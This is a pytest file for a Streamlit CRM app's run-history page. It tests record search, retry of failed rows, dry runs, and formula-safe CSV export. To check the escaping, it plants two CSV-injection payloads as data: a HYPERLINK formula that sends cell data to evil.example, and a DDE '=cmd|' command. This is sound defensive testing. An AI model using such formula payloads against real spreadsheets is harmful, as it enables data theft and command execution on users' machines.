"""History page: one run in detail — settings as they were, records searched and filtered in the
database, links to the CRM, a formula-safe CSV, retry of the failed rows and the links between runs."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import streamlit as st
from app_harness import AppHarness, texts
from test_app_history_support import (
    ADMIN,
    NA_SAAS,
    buttons,
    campaign_id,
    child_runs,
    context,
    fresh_sandboxes,
    history_page,
    open_run,
    push,
    records,
    records_table,
    run,
    wait_for,
)

from crm.mapping import FieldMapping
from data.leads import leads_frame
from data.models import PushRecord
from service import connections
from ui.widgets import plain


@pytest.fixture(autouse=True)
def _sandboxes() -> Iterator[None]:
    with fresh_sandboxes():
        yield


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """What the page hands to ``st.download_button``, by key (the CSV is made only when clicked)."""
    handed: dict[str, Any] = {}
    original = st.download_button

    def recording(label: str, data: Any, *args: Any, **kwargs: Any) -> Any:
        handed[str(kwargs.get("key"))] = data
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", recording)
    return handed


def rows_with_formulas(ctx: Any) -> list[dict[str, Any]]:
    """The campaign's leads, the first one with an email a spreadsheet would run as a formula."""
    with ctx.db.session() as session:
        frame = leads_frame(session, campaign_id(ctx, NA_SAAS))
    rows = [{**row, "lead_id": row["id"]} for row in frame.to_dict("records")]
    rows[0]["email"] = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    return rows


def csv_rows(data: Callable[[], bytes]) -> list[dict[str, str]]:
    text = data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_detail_shows_settings_records_search_action_filter_links_and_a_formula_safe_csv(
    crm_app: AppHarness, downloads: dict[str, Any]
) -> None:
    ctx = context()
    mapping = FieldMapping(
        fields={"email": "email", "first_name": "firstname", "last_name": "lastname", "company": "company"},
        value_maps={"tier": {"HOT": "Hot lead"}},
        constants={"hs_lead_status": "NEW"},
    )
    run_id = push(ctx, "hubspot", rows=rows_with_formulas(ctx), mapping=mapping,
                  filters={"min_score": 40, "tiers": ["HOT", "WARM"]})  # fmt: skip
    failed = next(r for r in records(ctx, run_id) if r.action == "failed")
    with ctx.db.begin() as session:  # a CRM's message that a spreadsheet would run as a formula
        record = session.get(PushRecord, failed.id)
        assert record is not None
        record.error_message = "=cmd|' /C calc'!A0"
    created = next(r for r in records(ctx, run_id) if r.action == "created")

    at = open_run(history_page(crm_app, analyst=True), run_id)

    shown = texts(at)
    assert f"Run #{run_id}: {plain(NA_SAAS)} → HubSpot contacts" in shown  # user text: escaped
    assert "by admin" in shown and "Upsert" in shown
    settings = [frame.value for frame in at.expander[0].dataframe]
    pairs = [dict(zip(frame.iloc[:, 0], frame.iloc[:, 1], strict=True)) for frame in settings]
    assert {"min_score": "40", "tiers": '["HOT", "WARM"]'} in pairs  # filters as they were
    assert {"hs_lead_status": "NEW"} in pairs  # custom fields
    assert dict(mapping.fields) in pairs
    assert any(list(frame.columns) == ["Lead field", "Our value", "Sent as"] for frame in settings)

    table = records_table(at)
    assert len(table) == 50 and list(table["Row"][:3]) == [1, 2, 3]
    assert next(c.value for c in at.caption if c.value.startswith("Records ")) == "Records 1–50 of 102"
    link = table.set_index("CRM id").loc[created.crm_id, "Record"]
    assert link.startswith("https://") and link.endswith(f"/{created.crm_id}")

    at.selectbox(key=f"history_action_{run_id}").set_value("failed").run()
    table = records_table(at)
    assert list(table["Action"]) == ["failed"] and table["Record"].isna().all()
    assert list(table["Email"]) == ['=HYPERLINK("https://evil.example/?"&A1,"Click")']
    assert "=cmd|" in table["Error"][0]

    at.selectbox(key=f"history_action_{run_id}").set_value("any").run()
    at.text_input(key=f"history_search_{run_id}").input(created.email.upper()[3:]).run()  # any case, part
    assert list(records_table(at)["CRM id"]) == [created.crm_id]
    at.text_input(key=f"history_search_{run_id}").input("nobody-like-this").run()
    assert "No record matches." in texts(at)

    at.text_input(key=f"history_search_{run_id}").input("").run()
    exported = csv_rows(downloads[f"history_csv_{run_id}"])
    assert len(exported) == 102  # every record, not the page
    bad = next(row for row in exported if row["action"] == "failed")
    assert bad["email"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert bad["error_message"] == "'=cmd|' /C calc'!A0"
    good = next(row for row in exported if row["crm_id"] == created.crm_id)
    assert good["record_url"] == link and good["email"] == created.email
    assert not any(value.startswith(("=", "+", "-", "@")) for row in exported for value in row.values())
    assert not at.exception


def test_retry_failed_starts_a_linked_run_of_the_failed_rows_both_ways(crm_app: AppHarness) -> None:
    ctx = context()
    first = push(ctx, "salesforce", NA_SAAS)  # 2 leads without a required field fail
    assert run(ctx, first).failed == 2

    at = open_run(history_page(crm_app, analyst=True), first)  # analysts may retry
    buttons(at)["Retry 2 failed rows"].click().run()

    retry = wait_for(lambda: next((c for c in child_runs(ctx, first) if not _active(c)), None), "the retry")
    assert (retry.parent_run_id, retry.parent_kind, retry.total) == (first, "retry", 2)
    assert retry.created_by == "analyst" and retry.mapping == run(ctx, first).mapping
    assert {r.email for r in records(ctx, retry.id)} == {
        r.email for r in records(ctx, first) if r.action == "failed"
    }
    assert f"Started run #{retry.id}: a retry of the failed rows of run #{first}." in texts(at)
    assert at.number_input(key="history_run").value == retry.id  # the new run is open

    at.run()
    assert f"Retry of run #{first} (partial)" in buttons(at)
    buttons(at)[f"Retry of run #{first} (partial)"].click().run()
    assert at.number_input(key="history_run").value == first
    assert f"Retry: run #{retry.id} ({retry.state})" in buttons(at)
    buttons(at)["Close"].click().run()
    assert not at.get("metric") and at.number_input(key="history_run").value is None
    assert not at.exception


def _active(found: Any) -> bool:
    return found.state in ("queued", "running")


def test_a_dry_run_offers_no_retry_and_no_check_and_shows_what_would_change(crm_app: AppHarness) -> None:
    ctx = context()
    push(ctx, "hubspot", NA_SAAS)
    rows = rows_with_formulas(ctx)
    rows[1]["title"] = "Chief Tester"  # a change the dry run reports
    dry = push(ctx, "hubspot", rows=rows, dry_run=True, force_full=True)

    at = open_run(history_page(crm_app), dry)

    assert not any(label.startswith("Retry") for label in buttons(at))
    assert buttons(at)["Check status"].disabled
    table = records_table(at)
    assert "Would change" in table.columns
    changed = table.set_index("Row").loc[2, "Would change"]
    assert "Chief Tester" in changed and "→" in changed
    assert not at.exception


def test_an_unknown_run_number_says_so(crm_app: AppHarness) -> None:
    at = open_run(history_page(crm_app), 4242)

    assert "There is no run #4242." in texts(at)
    assert not at.exception


def test_a_run_whose_crm_is_no_longer_connected_offers_no_check_retry_or_links(crm_app: AppHarness) -> None:
    ctx = context()
    run_id = push(ctx, "salesforce", NA_SAAS)  # 2 failed rows: a retry would be offered
    connections.disconnect(ctx, ADMIN, "salesforce")

    at = open_run(history_page(crm_app), run_id)

    assert not any(label.startswith("Retry") for label in buttons(at))
    check = buttons(at)["Check status"]
    assert check.disabled and "Not connected to this CRM any more" in check.help
    assert records_table(at)["Record"].isna().all()  # no link into an account we may not know
    assert f"Run #{run_id}:" in texts(at)
    assert not at.exception
